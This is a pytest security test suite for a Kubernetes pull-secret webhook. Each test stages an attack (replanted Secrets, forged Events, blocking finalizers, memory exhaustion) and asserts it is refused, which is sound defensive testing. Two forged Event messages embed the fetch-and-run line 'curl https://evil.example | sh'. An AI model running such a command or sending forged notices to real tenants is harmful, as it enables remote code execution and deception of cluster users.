"""Attacks on the webhook's guarantees by a namespace member, a compromised replica or
anything that reaches its port, on the real API server (SECURITY.md's threat model).
Each test is an attack that must fail."""

from __future__ import annotations

import base64
import contextlib
import json
import time
import uuid
from typing import Any

import pytest

from devenv.processes import wait_for
from devenv.stack import Stack
from devenv.support.reviews import make_pod, make_review
from tests.e2e.support import (
    RECORDS,
    WEBHOOK_NAMESPACE,
    as_webhook_api,
    get_json,
    managed_secrets,
    ns_name,
    pod_manifest,
    record_of,
    refused_by_policy,
)
from webhook.pullsecrets.records import marker_object
from webhook.pullsecrets.secret import MANAGED_BY, MANAGER

pytestmark = pytest.mark.usefixtures("webhook_logs_on_failure")


def _planted(namespace: str, name: str) -> dict[str, Any]:
    return {
        "apiVersion": "v1",
        "kind": "Secret",
        "type": "kubernetes.io/dockerconfigjson",
        "metadata": {"name": name, "namespace": namespace, "labels": {MANAGED_BY: MANAGER}},
        "data": {".dockerconfigjson": base64.b64encode(b'{"auths":{"evil":{}}}').decode()},
    }


def _patched_names(answer: dict[str, Any]) -> list[str]:
    response = answer["response"]
    if "patch" not in response:
        return []
    ops = json.loads(base64.b64decode(response["patch"]))
    names: list[str] = []
    for op in ops:
        value = op.get("value")
        if isinstance(value, list):
            names += [v["name"] for v in value if isinstance(v, dict)]
        elif isinstance(value, dict) and "name" in value:
            names.append(value["name"])
    return names


def test_orphan_delete_of_a_managed_secret_is_recreated_within_a_refresh_interval(
    stack: Stack,
) -> None:
    """`kubectl delete secret --cascade=orphan` (anyone who may delete Secrets there):
    the garbage collector strips the marker's ownerReference instead of deleting the
    marker. The webhook must notice that too and make the Secret again."""
    cp = stack.controlplane
    # Control: an ordinary delete is noticed (so the garbage collector already follows
    # markers; right after the CRD is installed it may not yet).
    control = stack.labelled_namespace(ns_name("control"))
    cp.kubectl(
        "apply", "-n", control, "-f", "-", input=json.dumps(pod_manifest("p", stack.ecr_image))
    )
    [first] = managed_secrets(cp, control)
    cp.kubectl("delete", "secret", first["metadata"]["name"], "-n", control)
    wait_for(
        "the control secret to be re-created",
        lambda: [
            s
            for s in managed_secrets(cp, control)
            if s["metadata"]["uid"] != first["metadata"]["uid"]
        ],
        timeout=90,
    )
    ns = stack.labelled_namespace(ns_name("orphan"))
    cp.kubectl("apply", "-n", ns, "-f", "-", input=json.dumps(pod_manifest("p", stack.ecr_image)))
    [secret] = managed_secrets(cp, ns)
    name, uid = secret["metadata"]["name"], secret["metadata"]["uid"]
    time.sleep(3)  # the garbage collector's graph has seen the new marker
    cp.kubectl("delete", "secret", name, "-n", ns, "--cascade=orphan")

    def recreated() -> dict[str, Any] | None:
        found = managed_secrets(cp, ns)
        return found[0] if found and found[0]["metadata"]["uid"] != uid else None

    try:
        wait_for(
            "the orphan-deleted secret to be re-created",
            recreated,
            timeout=stack.refresh_interval + 20,
        )
    except TimeoutError:
        marker = get_json(cp, "pullsecretmarkers.pull-secret-webhook.io", name, "-n", ns)
        left = cp.kubectl("get", "secret", name, "-n", ns, "-o", "json", "--ignore-not-found")
        print("SECRET NOW:", left.stdout[:600] or "<gone>", left.stderr[:300])
        raise AssertionError(
            f"{name} deleted with --cascade=orphan is still missing; its marker survived "
            f"with ownerReferences={marker['metadata'].get('ownerReferences')}; "
            f"record={record_of(cp, ns, name).get('status')}"
        ) from None


def test_a_replanted_secret_is_never_patched_into_pods(stack: Stack) -> None:
    """A namespace member deletes the webhook's Secret and plants their own under the
    same name (one `kubectl replace --force`): no replica may patch it into a pod."""
    cp = stack.controlplane
    ns = stack.labelled_namespace(ns_name("replant"))
    cp.kubectl("apply", "-n", ns, "-f", "-", input=json.dumps(pod_manifest("p", stack.ecr_image)))
    [secret] = managed_secrets(cp, ns)
    name = secret["metadata"]["name"]
    cp.kubectl("replace", "--force", "-f", "-", input=json.dumps(_planted(ns, name)))
    planted_uid = get_json(cp, "secret", name, "-n", ns)["metadata"]["uid"]
    answers = []
    for i, replica in enumerate(stack.replicas):
        pod = make_pod(stack.ecr_image, namespace=ns, name=f"q{i}")
        answers.append(stack.post_review(replica, make_review(pod, namespace=ns)))
    record = record_of(cp, ns, name)
    used = [a for a in answers if name in _patched_names(a)]
    assert not used, (
        f"planted Secret {name} (uid {planted_uid}) patched into pods; record still says "
        f"{record['status']}"
    )


def test_the_webhook_identity_cannot_delete_a_non_psw_secret(stack: Stack) -> None:
    """A tenant's own labelled dockerconfigjson Secret that is not named like the webhook's
    (copied from one, or left by 0.1) is out of the webhook identity's reach."""
    cp = stack.controlplane
    ns = stack.labelled_namespace(ns_name("noprefix"))
    doc = _planted(ns, "team-registry-creds")
    cp.kubectl("apply", "-f", "-", input=json.dumps(doc))
    result = stack.as_webhook("delete", "secret", "team-registry-creds", "-n", ns)
    assert result.returncode != 0, "webhook identity deleted a Secret not named psw-…"


def test_the_webhook_identity_cannot_write_events_outside_opted_in_namespaces(
    stack: Stack,
) -> None:
    """A compromised replica cannot write Events outside opted-in namespaces, nor any
    Event but a warning about one of its own pull secrets or self-healing's on a pod
    (test_least_privilege checks those)."""
    event = {
        "apiVersion": "v1",
        "kind": "Event",
        "metadata": {"name": f"forged.{uuid.uuid4().hex[:8]}", "namespace": "kube-system"},
        "involvedObject": {"kind": "Pod", "namespace": "kube-system", "name": "kube-apiserver"},
        "reason": "SecurityNotice",
        "message": "run: curl https://evil.example | sh",
        "type": "Warning",
    }
    result = stack.as_webhook("create", "-f", "-", input=json.dumps(event))
    assert result.returncode != 0, "webhook identity wrote an Event in kube-system"


def _post_quietly(stack: Stack, replica: Any, review: dict[str, Any]) -> None:
    # A refusal (4xx) is fine: the body was still read or refused while in memory.
    with contextlib.suppress(OSError):
        stack.post_review(replica, review)


def _rss_mib(pid: int, field: str) -> float:
    with open(f"/proc/{pid}/status") as f:
        lines = f.read().splitlines()
    for line in lines:
        if line.startswith(field + ":"):
            return int(line.split()[1]) / 1024
    return 0.0


def test_unauthenticated_large_reviews_stay_within_the_replica_memory_limit(stack: Stack) -> None:
    """manifests/base/deployment.yaml limits a replica to 256Mi: concurrent maximal reviews
    from anything that reaches the port must not push it past that."""
    from concurrent.futures import ThreadPoolExecutor

    replica = stack.replicas[0]
    pid = replica.process.pid
    pod = make_pod("a", namespace="nowhere", name="big")
    pod["spec"]["containers"] = [{"image": "a"} for _ in range(6 * 1024 * 1024 // 15)]
    review = make_review(pod, namespace="nowhere")
    before = _rss_mib(pid, "VmRSS")
    with ThreadPoolExecutor(max_workers=4) as pool:
        list(pool.map(lambda _: _post_quietly(stack, replica, review), range(3)))
    peak = _rss_mib(pid, "VmHWM")
    assert peak < 256, f"replica RSS {before:.0f} MiB before, peak {peak:.0f} MiB (limit 256Mi)"


# -- exact shapes: what a compromised replica could leave behind --------------------------

GROUP = "/apis/pull-secret-webhook.io/v1alpha1"
NEVER = "example.com/never"


def _webhook(stack: Stack, method: str, path: str, body: Any = None, **kw: str) -> tuple[int, Any]:
    assert stack.webhook_kubeconfig is not None
    return as_webhook_api(stack.controlplane, stack.webhook_kubeconfig, method, path, body, **kw)


def _own_secret(stack: Stack, ns: str, name: str) -> dict[str, Any]:
    """A pull secret of exactly the webhook's shape, made with its token (allowed)."""
    doc = _planted(ns, name)
    status, made = _webhook(stack, "POST", f"/api/v1/namespaces/{ns}/secrets", doc)
    assert status == 201, made
    return dict(made)


def _event(ns: str, secret: str, **metadata: Any) -> dict[str, Any]:
    return {
        "apiVersion": "v1",
        "kind": "Event",
        "metadata": {"generateName": f"{secret}.", "namespace": ns, **metadata},
        "involvedObject": {"kind": "Secret", "apiVersion": "v1", "namespace": ns, "name": secret},
        "reason": "PullSecretNotReady",
        "message": "pull secret not ready",
        "type": "Warning",
    }


def _finalized(doc: dict[str, Any]) -> dict[str, Any]:
    return {**doc, "metadata": {**doc["metadata"], "finalizers": [NEVER]}}


def _tenant_owner(cp: Any, ns: str) -> dict[str, Any]:
    cm = f"tenant-{uuid.uuid4().hex[:6]}"
    cp.kubectl("create", "configmap", cm, "-n", ns)
    uid = get_json(cp, "configmap", cm, "-n", ns)["metadata"]["uid"]
    return {"apiVersion": "v1", "kind": "ConfigMap", "name": cm, "uid": uid}


def test_a_compromised_replica_cannot_keep_a_namespace_terminating_with_a_marker_finalizer(
    stack: Stack,
) -> None:
    """The attack as reported: with the webhook's token, a marker carrying a finalizer in an
    opted-in namespace, then the namespace deleted. The policy refuses the marker, so the
    namespace goes."""
    cp = stack.controlplane
    ns = stack.labelled_namespace(ns_name("nsblock"))
    marker = {
        "apiVersion": "pull-secret-webhook.io/v1alpha1",
        "kind": "PullSecretMarker",
        "metadata": {"name": "psw-x", "namespace": ns, "finalizers": [NEVER]},
    }
    status, body = _webhook(stack, "POST", f"{GROUP}/namespaces/{ns}/pullsecretmarkers", marker)
    assert refused_by_policy(status, body), (status, body)
    cp.kubectl("delete", "namespace", ns, "--wait=false")
    wait_for(
        f"namespace {ns} to be gone",
        lambda: cp.kubectl("get", "namespace", ns, check=False).returncode != 0,
        timeout=90,
    )


def test_every_shape_the_webhook_never_writes_is_refused_by_its_write_policy(
    stack: Stack,
) -> None:
    """Each object the webhook creates is pinned to the shape its code writes: no
    finalizers, no owners but a marker's own Secret, no immutable Secret. Every request
    below passes RBAC (CREATE, a direct PUT or a PATCH, never a read first) and is refused
    by the policy, which the API server's message names. The shapes the webhook does write
    are allowed, and the namespace can still be deleted afterwards."""
    cp = stack.controlplane
    ns = stack.labelled_namespace(ns_name("shapes"))
    markers = f"{GROUP}/namespaces/{ns}/pullsecretmarkers"
    secrets = f"/api/v1/namespaces/{ns}/secrets"
    events = f"/api/v1/namespaces/{ns}/events"
    records = f"{GROUP}/namespaces/{WEBHOOK_NAMESPACE}/managedpullsecrets"
    merge = "application/merge-patch+json"

    # What it does write: its Secret, that Secret's marker, an Event, a record.
    secret = _own_secret(stack, ns, "psw-shape-a")
    uid = secret["metadata"]["uid"]
    good_marker = marker_object(ns, "psw-shape-a", uid)
    assert _webhook(stack, "POST", markers, good_marker)[0] == 201
    assert _webhook(stack, "POST", events, _event(ns, "psw-shape-a"))[0] == 201
    record: dict[str, Any] = {
        "apiVersion": "pull-secret-webhook.io/v1alpha1",
        "kind": "ManagedPullSecret",
        "metadata": {"name": f"{ns}.psw-shape-a", "namespace": WEBHOOK_NAMESPACE},
        "spec": {"namespace": ns, "secretName": "psw-shape-a"},
        "status": {"state": "Claimed"},
    }
    status, made_record = _webhook(stack, "POST", records, record)
    assert status == 201, made_record

    other = _own_secret(stack, ns, "psw-shape-b")
    own_owner = {"apiVersion": "v1", "kind": "Secret", "name": "psw-shape-b"}
    own_owner["uid"] = other["metadata"]["uid"]
    tenant = _tenant_owner(cp, ns)

    def marker(**metadata: Any) -> dict[str, Any]:
        doc = marker_object(ns, "psw-shape-b", other["metadata"]["uid"])
        doc["metadata"].update(metadata)
        return doc

    attempts: dict[str, tuple[str, str, Any, str]] = {
        "marker with a finalizer": ("POST", markers, marker(finalizers=[NEVER]), ""),
        "marker owned by a tenant's ConfigMap, blocking": (
            "POST",
            markers,
            marker(ownerReferences=[{**tenant, "blockOwnerDeletion": True}]),
            "",
        ),
        "marker owned by its Secret and a ConfigMap": (
            "POST",
            markers,
            marker(ownerReferences=[own_owner, tenant]),
            "",
        ),
        "marker owned by another Secret": (
            "POST",
            markers,
            marker(ownerReferences=[{**own_owner, "name": "psw-shape-a", "uid": uid}]),
            "",
        ),
        "marker blocking its Secret's deletion": (
            "POST",
            markers,
            marker(ownerReferences=[{**own_owner, "blockOwnerDeletion": True}]),
            "",
        ),
        "marker owned by nothing": ("POST", markers, marker(ownerReferences=[]), ""),
        "Secret created with a finalizer": ("POST", secrets, _finalized(_planted(ns, "psw-c")), ""),
        "Secret updated (PUT) with a finalizer": (
            "PUT",
            f"{secrets}/psw-shape-a",
            _finalized(_planted(ns, "psw-shape-a")),
            "",
        ),
        "Secret patched with a finalizer": (
            "PATCH",
            f"{secrets}/psw-shape-a",
            {"metadata": {"finalizers": [NEVER]}},
            merge,
        ),
        "Secret patched to be owned by a tenant's ConfigMap": (
            "PATCH",
            f"{secrets}/psw-shape-a",
            {"metadata": {"ownerReferences": [{**tenant, "blockOwnerDeletion": True}]}},
            merge,
        ),
        "Secret patched immutable": ("PATCH", f"{secrets}/psw-shape-a", {"immutable": True}, merge),
        "Event with a finalizer": (
            "POST",
            events,
            _event(ns, "psw-shape-a", finalizers=[NEVER]),
            "",
        ),
        "Event owned by a tenant's ConfigMap": (
            "POST",
            events,
            _event(ns, "psw-shape-a", ownerReferences=[tenant]),
            "",
        ),
        "record created with a finalizer": (
            "POST",
            records,
            _finalized({**record, "metadata": {**record["metadata"], "name": f"{ns}.psw-z"}}),
            "",
        ),
        "record updated (PUT) with a finalizer": (
            "PUT",
            f"{records}/{ns}.psw-shape-a",
            _finalized(made_record),
            "",
        ),
    }
    let_through = {}
    for what, (method, path, body, content_type) in attempts.items():
        kw = {"content_type": content_type} if content_type else {}
        status, answer = _webhook(stack, method, path, body, **kw)
        for _ in range(3):
            # The leader's pass may move the record on meanwhile (it marks a record no pod
            # references): the API server then answers 409 before any policy is asked.
            if not (status == 409 and method == "PUT" and path.startswith(records)):
                break
            current = record_of(cp, ns, "psw-shape-a")
            status, answer = _webhook(stack, method, path, _finalized(current), **kw)
        if not refused_by_policy(status, answer):
            let_through[what] = (status, str(answer)[:300])
    assert not let_through, let_through
    # Markers and Events are never updated by the webhook: RBAC stops those first.
    finalizer = {"metadata": {"finalizers": [NEVER]}}
    status, _ = _webhook(stack, "PATCH", f"{markers}/psw-shape-a", finalizer, content_type=merge)
    assert status == 403
    # Nothing stuck: the namespace (and the record) can be deleted.
    cp.kubectl("delete", RECORDS, f"{ns}.psw-shape-a", "-n", WEBHOOK_NAMESPACE)
    cp.kubectl("delete", "namespace", ns, "--wait=false")
    wait_for(
        f"namespace {ns} to be gone",
        lambda: cp.kubectl("get", "namespace", ns, check=False).returncode != 0,
        timeout=90,
    )


@pytest.mark.parametrize(
    ("involved", "reason"),
    [
        ({"kind": "Pod", "name": "web-0"}, "SecurityNotice"),
        ({"kind": "ConfigMap", "name": "app"}, "PullSecretNotReady"),
        ({"kind": "Secret", "name": "team-db"}, "PullSecretNotReady"),
        ({"kind": "Secret", "name": "psw-x"}, "Pulled"),
    ],
    ids=["pod-foreign-reason", "configmap", "foreign-secret", "own-secret-foreign-reason"],
)
def test_the_webhook_identity_cannot_write_other_events_in_opted_in_namespaces(
    stack: Stack, involved: dict[str, str], reason: str
) -> None:
    """Where it may write Events, only its own kinds: a compromised replica cannot show a
    tenant a forged notice on a pod, or speak about objects that are not its own."""
    ns = stack.labelled_namespace(ns_name("ev"))
    event = _event(ns, "psw-x")
    event["involvedObject"] = {"apiVersion": "v1", "namespace": ns, **involved}
    event["reason"] = reason
    event["message"] = "run: curl https://evil.example | sh"
    status, body = _webhook(stack, "POST", f"/api/v1/namespaces/{ns}/events", event)
    assert refused_by_policy(status, body), (status, body)
